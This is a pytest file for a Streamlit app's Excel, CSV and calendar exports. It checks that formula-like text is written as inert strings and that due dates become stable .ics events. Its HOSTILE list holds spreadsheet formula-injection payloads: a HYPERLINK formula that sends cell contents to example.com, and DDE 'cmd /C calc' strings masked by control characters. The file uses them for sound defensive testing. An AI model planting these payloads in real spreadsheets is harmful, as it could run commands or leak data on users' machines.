"""The downloads the pages offer: lists as Excel, exactly as shown, and due dates as .ics."""

from __future__ import annotations

import datetime as dt
import io
import tomllib
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from icalendar import Calendar

from lib.contract import EVALUATION_DONE, EVALUATION_OVERDUE, EVALUATION_PLANNED
from lib.exports import FORMULA_PREFIXES, evaluations_to_ics, frame_to_xlsx, xml_safe
from lib.safe_text import csv_cell, looks_like_formula

ROOT = Path(__file__).resolve().parent.parent
#: Text a hostile workbook might hold; each would run in Excel if written as it is.
HOSTILE = [
    '=HYPERLINK("http://example.com/?q="&A1,"Ola")',
    '\x01=HYPERLINK("http://example.com","Ola")',
    "\x1b\x07+cmd|' /C calc'!A0",
    "\u200b@SUM(1+1)*cmd|' /C calc'!A0",
    " -2+3+cmd|' /C calc'!A0",
    "\x7f\x9b=1+1",
]


def read_back(content: bytes) -> list[tuple]:
    return list(openpyxl.load_workbook(io.BytesIO(content)).active.values)


def test_a_list_downloads_as_shown_with_dates_numbers_and_empty_cells():
    shown = pd.DataFrame(
        {
            "Risiko-ID": ["R1", "R2"],
            "Score": [20, 6],
            "Andel": [0.5, float("nan")],
            "Frist": pd.to_datetime(["2026-12-01", None]),
            "Tiltak": ["Opplæring", None],
        }
    )
    rows = read_back(frame_to_xlsx(shown, "Risikoer før tiltak"))
    assert rows[0] == ("Risiko-ID", "Score", "Andel", "Frist", "Tiltak")
    assert rows[1] == ("R1", 20, 0.5, dt.datetime(2026, 12, 1), "Opplæring")
    assert rows[2] == ("R2", 6, None, None, None)
    sheet = openpyxl.load_workbook(io.BytesIO(frame_to_xlsx(shown, "a/b:c"))).active
    assert sheet.title == "a b c" and sheet.freeze_panes == "A2"
    assert sheet["D2"].number_format == "DD.MM.YYYY"


@settings(max_examples=100, deadline=None)
@given(text=st.text(min_size=1, max_size=30))
def test_text_that_could_run_as_a_formula_is_written_as_text(text):
    value = text if text.startswith(FORMULA_PREFIXES) else "=" + text
    frame = pd.DataFrame({"A": [value], "B": [text]})
    cells = openpyxl.load_workbook(io.BytesIO(frame_to_xlsx(frame))).active
    cell = cells["A2"]
    assert cell.data_type == "s" and cell.quotePrefix
    assert newlines(cell.value) == newlines(xml_safe(value))
    # Control characters a workbook cannot hold are dropped, never a broken file.
    assert newlines(cells["B2"].value or "") == newlines(xml_safe(text))


def newlines(text: str) -> str:
    """XML reads a bare carriage return back as a line feed (openpyxl writing with lxml
    escapes it and keeps it): compare line breaks as line feeds."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def plan() -> pd.DataFrame:
    return pd.DataFrame(
        [
            {
                "prosjekt_id": "OU 2",
                "anbefaling_id": "A1",
                "anbefaling": "Felles inntak; ett mottak, alle saker",
                "vedtak": "Støttes",
                "ansvarlig": "Kari Nordmann",
                "iverksatt": pd.Timestamp("2026-01-31"),
                "evaluering": 6,
                "frist": pd.Timestamp("2026-07-31"),
                "status": EVALUATION_OVERDUE,
            },
            {
                "prosjekt_id": "OU 2",
                "anbefaling_id": "A1",
                "anbefaling": "Felles inntak; ett mottak, alle saker",
                "vedtak": "Støttes",
                "ansvarlig": None,
                "iverksatt": pd.Timestamp("2026-01-31"),
                "evaluering": 12,
                "frist": pd.Timestamp("2027-01-31"),
                "status": EVALUATION_PLANNED,
            },
            {
                "prosjekt_id": "OU 2",
                "anbefaling_id": "A2",
                "anbefaling": "Gjort",
                "vedtak": "Støttes",
                "ansvarlig": None,
                "iverksatt": pd.Timestamp("2025-01-31"),
                "evaluering": 6,
                "frist": pd.Timestamp("2025-07-31"),
                "status": EVALUATION_DONE,
            },
        ]
    )


def test_due_dates_become_all_day_events_with_stable_ids():
    stamp = dt.datetime(2026, 11, 26, 12, tzinfo=dt.UTC)
    content = evaluations_to_ics(plan(), stamp=stamp)
    calendar = Calendar.from_ical(content)
    events = calendar.walk("VEVENT")
    assert len(events) == 2  # the one already done is left out
    first = events[0]
    assert first.decoded("dtstart") == dt.date(2026, 7, 31)
    assert first.decoded("dtend") == dt.date(2026, 8, 1)
    assert str(first["summary"]) == (
        "Evaluering 6 mnd: A1 Felles inntak; ett mottak, alle saker (OU 2)"
    )
    assert "Ansvarlig: Kari Nordmann" in str(first["description"])
    assert str(first["uid"]) == "OU%202/A1/6@styringsrom"
    assert str(events[1]["uid"]) == "OU%202/A1/12@styringsrom"
    # The same plan gives the same file: importing it again updates, never duplicates.
    assert evaluations_to_ics(plan(), stamp=stamp) == content


def test_an_empty_plan_is_an_empty_calendar():
    calendar = Calendar.from_ical(evaluations_to_ics(plan().iloc[0:0]))
    assert calendar.walk("VEVENT") == []


@pytest.mark.parametrize("text", HOSTILE)
def test_control_characters_are_dropped_before_the_formula_check(text: str) -> None:
    """`\\x01=HYPERLINK(…)` loses its \\x01 in the workbook; it must not become a live
    formula there (the Versjoner and error-list downloads)."""
    assert looks_like_formula(text)
    cells = openpyxl.load_workbook(io.BytesIO(frame_to_xlsx(pd.DataFrame({"A": [text]})))).active
    cell = cells["A2"]
    assert cell.data_type == "s" and cell.quotePrefix, repr(cell.value)


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_for_excel_quotes_formula_like_text(text: str) -> None:
    guarded = csv_cell(text)
    assert isinstance(guarded, str) and guarded.startswith("'")
    assert not any((ord(c) < 32 and c not in "\t\n\r") or 0x7F <= ord(c) <= 0x9F for c in guarded)


@pytest.mark.parametrize(
    ("value", "expected"),
    [("-3", "-3"), ("+2,5", "+2,5"), ("Vanlig tekst", "Vanlig tekst"), (4, 4), (None, None)],
)
def test_csv_for_excel_leaves_numbers_and_plain_text(value: object, expected: object) -> None:
    assert csv_cell(value) == expected


def test_the_tables_own_csv_download_is_turned_off() -> None:
    """Streamlit's table toolbar «Download as CSV» writes formula-like text raw; the option
    that hides it (and clipboard copy) is on, and is an option this Streamlit knows."""
    from streamlit import config

    config_file = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config_file["client"]["disableDataExport"] is True
    assert "client.disableDataExport" in config._config_options_template


CONTROLS = "".join(
    map(chr, [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0)])
)


@settings(max_examples=200, deadline=None)
@given(
    noise=st.text(alphabet=CONTROLS + "\u200b\u202e\ufeff ", max_size=4),
    prefix=st.sampled_from(["=", "+", "-", "@"]),
    # Not a plain number once invisible characters are gone (`+\x1f0` is the number +0 for
    # Excel, not a formula, and stays as it is).
    rest=st.text(min_size=1, max_size=20).filter(
        # csv_cell's own cleaning; the leading "a" keeps it from guarding anything
        lambda text: not str(csv_cell("a" + text))[1:2].isdigit()
    ),
)
def test_no_control_characters_before_a_formula_get_it_past_the_guard(noise, prefix, rest):
    text = noise + prefix + rest
    cells = openpyxl.load_workbook(io.BytesIO(frame_to_xlsx(pd.DataFrame({"A": [text]})))).active
    assert cells["A2"].data_type == "s" and cells["A2"].quotePrefix
    guarded = csv_cell(text)
    assert isinstance(guarded, str) and guarded.startswith("'")
